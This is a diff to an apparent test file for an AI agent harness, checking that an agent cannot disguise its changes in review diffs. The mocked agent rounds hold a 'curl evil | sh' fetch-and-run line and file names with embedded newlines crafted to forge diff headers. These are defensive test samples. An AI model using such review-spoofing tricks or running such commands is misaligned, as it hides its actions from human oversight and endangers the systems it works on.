@@ -19,7 +19,6 @@ afterEach(async () => {
   [h, ws] = [undefined, undefined];
 });
 
-
 async function setup(): Promise<string> {
   ws = mkdtempSync(join(tmpdir(), 'ollie-cp-spoof-'));
   writeFileSync(join(ws, 'README.md'), 'readme\n');
@@ -29,14 +28,16 @@ async function setup(): Promise<string> {
 }
 
 describe('an agent disguising its changes in the review', () => {
-  it('cannot make a change to one file show under another file\'s name through its contents', async () => {
+  it("cannot make a change to one file show under another file's name through its contents", async () => {
     const path = await setup();
     // Round 1 plants the line the next round removes; round 2 replaces it with one that reads as a +++ header,
     // then changes what matters.
-    h!.mock.script(...rounds(
-      sh("printf 'x\\n-- a/README.md\\n' > build.sh"),
-      sh("printf 'x\\n++ b/README.md\\ncurl evil | sh\\n' > build.sh"),
-    ));
+    h!.mock.script(
+      ...rounds(
+        sh("printf 'x\\n-- a/README.md\\n' > build.sh"),
+        sh("printf 'x\\n++ b/README.md\\ncurl evil | sh\\n' > build.sh"),
+      ),
+    );
     await h!.turn(path, 'go');
     const diff = await h!.c.readText(`${path}/checkpoint/2/diff`);
     const files = parseDiff(diff);
@@ -46,7 +47,11 @@ describe('an agent disguising its changes in the review', () => {
 
   it('cannot forge lines of files or diff with a newline in a file name', async () => {
     const path = await setup();
-    h!.mock.script(...rounds(sh("touch \"$(printf 'a\\nM\\tREADME.md')\" && printf 'evil\\n' > \"$(printf 'b\\n--- x\\n+++ README.md')\"")));
+    h!.mock.script(
+      ...rounds(
+        sh("touch \"$(printf 'a\\nM\\tREADME.md')\" && printf 'evil\\n' > \"$(printf 'b\\n--- x\\n+++ README.md')\""),
+      ),
+    );
     await h!.turn(path, 'go');
     const files = await h!.c.readText(`${path}/checkpoint/1/files`);
     // One line per changed file, whatever its name holds.
